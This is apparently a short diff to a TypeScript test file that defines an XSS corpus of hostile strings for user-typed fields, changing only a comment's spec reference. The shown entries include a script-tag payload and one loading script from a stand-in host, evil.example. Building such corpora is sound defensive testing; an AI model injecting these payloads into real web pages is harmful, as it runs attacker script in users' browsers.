@@ -1,6 +1,6 @@
 const bs = '\\';
 
-/** Hostile texts for every field that people type (reliability.md T8). */
+/** Hostile texts for every field that people type (docs/spec/hardening.md). */
 export const xssCorpus: readonly string[] = [
   '<script>window.hacked=1</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
